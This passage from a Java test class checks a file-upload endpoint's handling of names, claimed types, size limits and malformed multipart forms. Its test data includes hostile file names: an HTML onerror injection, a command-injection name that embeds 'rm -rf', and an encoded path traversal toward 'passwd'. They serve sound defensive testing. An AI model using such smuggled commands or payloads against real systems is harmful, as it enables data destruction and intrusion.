                Arguments.of("<img src=x onerror=1>.pdf", "_img src=x onerror=1_.pdf"),
                Arguments.of("a;rm -rf x|y.pdf", "a_rm -rf x_y.pdf"),
                Arguments.of("%2e%2e%2fpasswd.pdf", "%2e%2e%2fpasswd.pdf"),
                Arguments.of("תוכנית.pdf", "תוכנית.pdf"),
                Arguments.of("page.html", "page.html.pdf"));
    }

    @ParameterizedTest(name = "{1}")
    @MethodSource("names")
    @DisplayName("QMR-159 a name that attacks or misleads becomes harmless")
    void tamesNames(String name, String kept) {
        requireTame(send(name, Files.pdf()), kept, "application/pdf");
    }

    @ParameterizedTest
    @MethodSource("claims")
    @DisplayName("QMR-159 what the sender says about the type counts for nothing")
    void ignoresClaims(String claimed) {
        requireTame(send("a.pdf", Files.pdf(), claimed), "a.pdf", "application/pdf");
    }

    static Stream<String> claims() {
        return Stream.of("text/html", "image/svg+xml", "application/x-msdownload", "nonsense", "");
    }

    @Test
    @DisplayName("QMR-159 one byte under the limit and the limit itself are taken, one more is not")
    void limits() {
        requireTame(send("under.pdf", Files.pdf(LIMIT - 1)), "under.pdf", "application/pdf");
        requireTame(send("exact.pdf", Files.pdf(LIMIT)), "exact.pdf", "application/pdf");
        var over = send("over.pdf", Files.pdf(LIMIT + 1));
        assertThat(over.status()).isEqualTo(413);
        assertThat(over.<String>path("code")).isEqualTo("FILE_TOO_LARGE");
        assertThat(over.<String>path("detail")).contains("20 MB");
    }

    static Stream<Arguments> forms() {
        var file =
                "--b0\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\n\r\n"
                        + new String(Files.pdf(), StandardCharsets.ISO_8859_1)
                        + "\r\n";
        var request = description("");
        var end = "--b0--\r\n";
        return Stream.of(
                form("the parts the other way round", 201, request + file + end),
                form("two files", 422, file + file + request + end),
                form(
                        "a file beside the file",
                        422,
                        file + file.replace("\"file\"", "\"other\"") + request + end),
                form("no file", 422, request + end),
                form("no description", 422, file + end),
                form("nothing", 422, end),
                form("an empty body", 400, ""),
                form("no end", 400, file + request),
                form("another boundary", 400, (file + request + end).replace("--b0", "--b1")),
                form("a description that is no JSON", 400, file + request.replace("{", "[") + end),
                form("an unknown field", 400, file + description(", \"side\": \"CENTRE\"") + end),
                form("two descriptions", 201, file + request + request + end),
                form(
                        "a description without its type",
                        201,
                        file + request.replace("\r\nContent-Type: application/json", "") + end),
                form(
                        "a file without a name",
                        201,
                        file.replace("; filename=\"a.pdf\"", "") + request + end),
                form(
                        "a very long header",
                        201,
                        file.replace("\r\n\r\n", "\r\nX-Long: " + "x".repeat(70_000) + "\r\n\r\n")
                                + request
                                + end),
                form(
                        "a thousand parts",
                        400,
                        file
                                + request
                                + "--b0\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\ny\r\n"
                                        .repeat(1_000)
                                + end));
    }

    private static Arguments form(String what, int status, String form) {
        return Arguments.of(what, status, form);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("forms")
    @DisplayName("QMR-159 a form that is put together oddly is refused in words or understood")
    void readsForms(String what, int status, String form) {
        var answer = sendRaw(bytes(form));
        assertThat(answer.status()).as(answer.body()).isEqualTo(status);
        if (status >= 400) {
            assertThat(answer.mediaType()).startsWith("application/problem+json");
            requireNothingStored();
        }
    }

    @Test
    @DisplayName("QMR-159 a body far over the limit is cut off")
    void cutsOff() {
        assertThat(sendRaw(new byte[30 * 1024 * 1024]).status()).isEqualTo(413);
        requireNothingStored();
    }
}
